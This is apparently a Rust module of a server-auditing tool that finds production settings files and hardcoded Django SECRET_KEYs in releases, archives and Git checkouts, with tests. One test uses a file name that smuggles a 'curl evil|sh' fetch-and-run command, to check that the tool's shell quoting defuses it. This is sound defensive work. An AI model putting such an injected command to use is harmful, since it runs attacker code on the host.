//! Production settings where they don't belong: inside a release, inside a jar, or in a Git checkout, from where they get into everybody's hands.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rustix::fs::{CWD, Mode, OFlags};

use super::sites::Sites;
use super::{Notes, Severity};
use crate::api::shell;
use crate::platform::host::release::{Jar, OURSELVES, beneath};

/// How deep a release is looked into, and how much of it.
const DEPTH: u32 = 10;
const ENTRIES: usize = 50_000;
/// A file of settings in Python is looked into as far as this.
const LARGEST: u64 = 1 << 20;
/// The index of a checkout of a hundred thousand files takes ten megabytes.
const LARGEST_INDEX: u64 = 64 << 20;
/// Looking into all archives together takes no longer.
const ARCHIVES_WITHIN: Duration = Duration::from_secs(60);
/// Where people keep what they deploy from.
const CHECKOUTS: [&str; 4] = ["/srv", "/opt", "/var/www", "/home"];

pub(super) fn look(sites: &Sites, notes: &mut Notes) {
    let until = Instant::now() + ARCHIVES_WITHIN;
    for site in &sites.all {
        // The newest stands for those before it: whoever mends it mends the next one.
        let newest =
            site.releases.iter().max_by_key(|folder| fs::metadata(folder).and_then(|meta| meta.modified()).ok());
        if let Some(folder) = newest {
            walk(folder, &mut |file, inside| in_release(site.name.as_str(), folder, file, inside, until, notes));
        }
        if let Some(source) = site.source.as_deref().filter(|source| source.is_file()) {
            in_archive(site.name.as_str(), source, until, notes);
        }
    }
    let mut checkouts = BTreeSet::new();
    for source in sites.all.iter().filter_map(|site| site.source.as_deref()) {
        checkouts.extend(source.ancestors().find(|folder| folder.join(".git").is_dir()).map(Path::to_owned));
    }
    for folder in CHECKOUTS {
        find_checkouts(Path::new(folder), 3, &mut checkouts);
    }
    for checkout in checkouts {
        in_checkout(&checkout, notes);
    }
}

fn in_release(site: &str, folder: &Path, file: &Path, inside: &str, until: Instant, notes: &mut Notes) {
    let place = || format!("{inside} in {}", folder.display());
    if let Some(what) = production(file) {
        notes.find(
            Severity::High,
            "ProductionFileInRelease",
            format!("the release of site {site} carries {what}, and so does every copy of it"),
            place(),
            format!("take {inside} out of the release, keep it outside and name it in spec.target.host.configFiles"),
        );
    }
    if Path::new(inside).ends_with(".git/HEAD") {
        notes.find(
            Severity::Medium,
            "GitInRelease",
            format!("the release of site {site} carries the whole history of a checkout"),
            place(),
            "deploy an export (`git archive`), or leave .git out of what you upload",
        );
    }
    if is_archive(file) {
        in_archive(site, file, until, notes);
    }
}

fn in_archive(site: &str, file: &Path, until: Instant, notes: &mut Notes) {
    if !is_archive(file) {
        return;
    }
    if Instant::now() > until {
        return notes.unseen(format!("what is in {}: the archives before it took too long", file.display()));
    }
    let Some(opened) = open(file) else { return };
    let jar = match Jar::open(Path::new(OURSELVES), opened) {
        Ok(jar) => jar,
        Err(error) => return notes.unseen(format!("what is in {}: {error}", file.display())),
    };
    for name in jar.names().iter().filter(|name| is_production_name(Path::new(name))) {
        notes.find(
            Severity::High,
            "ProductionFileInArchive",
            format!("an archive of site {site} carries production settings, and so does every copy of it"),
            format!("{name} in {}", file.display()),
            format!("leave {name} out when you build, keep it outside and name it in spec.target.host.configFiles"),
        );
    }
}

fn in_checkout(checkout: &Path, notes: &mut Notes) {
    let index = content(&checkout.join(".git/index"), LARGEST_INDEX).unwrap_or_default();
    let ignored = content(&checkout.join(".gitignore"), LARGEST).unwrap_or_default();
    let ignored = String::from_utf8_lossy(&ignored);
    walk(checkout, &mut |file, inside| {
        if inside.starts_with(".git/") {
            return;
        }
        let Some(what) = production(file) else { return };
        let name = file.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
        let tracked = is_tracked(&index, inside);
        if !tracked
            && ignored.lines().any(|line| {
                line.trim().trim_start_matches('/') == name || line.trim().trim_start_matches('/') == inside
            })
        {
            return;
        }
        let (severity, how) = if tracked {
            (Severity::High, "is committed")
        } else {
            (Severity::Medium, "is one `git add .` from being committed")
        };
        let fix = if tracked {
            format!(
                "git -C {} rm --cached {}, move it outside, add it to .gitignore, and change the passwords in it",
                quoted(checkout),
                quoted(Path::new(inside))
            )
        } else {
            format!("mv {} /etc/<site>/ and name it in spec.target.host.configFiles", quoted(file))
        };
        notes.find(severity, "ProductionFileInGit", format!("{what} {how}"), file.display().to_string(), fix);
    });
}

/// What kind of production settings a file is, if it is one.
fn production(file: &Path) -> Option<&'static str> {
    if is_production_name(file) {
        return Some("production settings");
    }
    let name = file.file_name()?.to_str()?;
    let python = name.ends_with(".py")
        && ["settings", "production", "local_settings", "prod"].iter().any(|word| name.contains(word));
    if python && let Some(text) = content(file, LARGEST) {
        let text = String::from_utf8_lossy(&text);
        let literal = |line: &str| {
            line.trim_start()
                .strip_prefix("SECRET_KEY")
                .and_then(|rest| rest.trim_start().strip_prefix('='))
                .is_some_and(|value| {
                    let value = value.trim();
                    // What a new project comes with is known to everybody, and Django's own check speaks of it.
                    value.starts_with(['"', '\'']) && value.len() > 2 && !value.contains("django-insecure-")
                })
        };
        return text.lines().any(literal).then_some("a SECRET_KEY in its settings");
    }
    None
}

fn is_production_name(file: &Path) -> bool {
    let Some(name) = file.file_name().and_then(|name| name.to_str()) else { return false };
    let profile = |rest: &str| {
        let (stem, ending) = rest.rsplit_once('.').unwrap_or((rest, ""));
        matches!(ending, "yml" | "yaml" | "properties") && ["prod", "live"].iter().any(|word| stem.starts_with(word))
    };
    if name.strip_prefix("application-").is_some_and(profile) {
        return true;
    }
    match name.strip_prefix(".env") {
        Some("") => true,
        Some(rest) => rest.starts_with(".prod") || rest.starts_with(".live"),
        None => false,
    }
}

fn is_archive(file: &Path) -> bool {
    file.extension().is_some_and(|ending| ["jar", "war", "zip", "ear"].iter().any(|known| ending == *known))
}

/// Opens a file of somebody's. Whoever may write there may have put a link or a pipe in its place.
fn open(file: &Path) -> Option<File> {
    let flags = OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
    rustix::fs::openat(CWD, file, flags, Mode::empty()).map(File::from).ok()
}

/// What a file of somebody's holds, if it is no larger.
fn content(file: &Path, most: u64) -> Option<Vec<u8>> {
    beneath::content(open(file)?, most).ok()?
}

/// A path as a shell takes it for one word. What somebody called a folder is pasted by root.
fn quoted(path: &Path) -> String {
    let path = path.to_string_lossy();
    if path.chars().any(char::is_control) { "'<the file that is named above>'".to_owned() } else { shell::word(&path) }
}

/// Whether the index of a checkout names this path. Each of its entries ends with the path and a NUL; what stands before differs by version.
fn is_tracked(index: &[u8], path: &str) -> bool {
    let wanted = [path.as_bytes(), b"\0"].concat();
    index.windows(wanted.len()).any(|window| window == wanted)
}

fn find_checkouts(folder: &Path, depth: u32, found: &mut BTreeSet<PathBuf>) {
    if folder.join(".git").symlink_metadata().is_ok_and(|found| found.is_dir()) {
        found.insert(folder.to_owned());
    }
    if depth == 0 {
        return;
    }
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let is_folder = entry.file_type().is_ok_and(|kind| kind.is_dir());
        if is_folder && !entry.file_name().to_string_lossy().starts_with('.') {
            find_checkouts(&entry.path(), depth - 1, found);
        }
    }
}

/// Each regular file below a folder, with its path there. Links are not followed, and dependencies are not looked into.
fn walk(root: &Path, see: &mut dyn FnMut(&Path, &str)) {
    let mut todo = vec![(root.to_owned(), 0)];
    let mut seen = 0;
    while let Some((folder, depth)) = todo.pop() {
        for entry in fs::read_dir(&folder).into_iter().flatten().flatten() {
            seen += 1;
            if seen > ENTRIES {
                return;
            }
            let (path, Ok(kind)) = (entry.path(), entry.file_type()) else { continue };
            let skipped = ["node_modules", "site-packages", "objects"].iter().any(|name| entry.file_name() == *name);
            if kind.is_dir() && depth < DEPTH && !skipped {
                todo.push((path, depth + 1));
            } else if kind.is_file()
                && let Some(inside) = path.strip_prefix(root).ok().and_then(Path::to_str)
            {
                see(&path, inside);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn production_settings_are_told_by_their_name_and_examples_are_not() {
        for (name, is) in [
            ("application-prod.yml", true),
            ("application-production.yaml", true),
            ("BOOT-INF/classes/application-prod1.properties", true),
            ("application-live.yml", true),
            ("application.yml", false),
            ("application-dev.yml", false),
            ("application-product.txt", false),
            (".env", true),
            (".env.production", true),
            (".env.example", false),
            (".envrc", false),
        ] {
            assert_eq!(is_production_name(Path::new(name)), is, "{name}");
        }
    }

    #[test]
    fn what_somebody_called_a_folder_is_one_word_to_a_shell() {
        for (path, word) in [
            ("/srv/shop/.env", "/srv/shop/.env"),
            ("/home/m/a b", "'/home/m/a b'"),
            ("/home/m/a;curl evil|sh;#/.env", "'/home/m/a;curl evil|sh;#/.env'"),
            ("/home/m/it's", r"'/home/m/it'\''s'"),
            ("/home/m/\u{1b}[2J", "'<the file that is named above>'"),
        ] {
            assert_eq!(quoted(Path::new(path)), word, "{path}");
        }
    }

    #[test]
    fn a_link_or_a_pipe_of_somebody_is_not_read() {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let at = |name: &str| folder.path().join(name);
        fs::write(at("plain"), "x").expect("written");
        std::os::unix::fs::symlink("/dev/zero", at("zero")).expect("a link");
        std::os::unix::fs::symlink(at("plain"), at("link")).expect("a link");
        rustix::fs::mknodat(CWD, at("pipe"), rustix::fs::FileType::Fifo, Mode::RWXU, 0).expect("a pipe");
        assert_eq!(content(&at("plain"), 10).as_deref(), Some(b"x".as_slice()));
        assert_eq!(content(&at("plain"), 0), None, "too large");
        for name in ["zero", "link", "pipe", "none"] {
            assert_eq!(content(&at(name), 10), None, "{name}");
        }
    }

    #[test]
    fn a_secret_key_that_is_written_out_counts_and_one_from_outside_does_not() {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let file = folder.path().join("settings.py");
        for (text, counts) in [
            ("SECRET_KEY = 'x1y2z3'\n", true),
            ("SECRET_KEY = os.environ['SECRET_KEY']\n", false),
            ("# SECRET_KEY = 'x'\n", false),
            ("SECRET_KEY = 'django-insecure-abc'\n", false),
        ] {
            fs::write(&file, text).expect("written");
            assert_eq!(production(&file).is_some(), counts, "{text}");
        }
    }
}
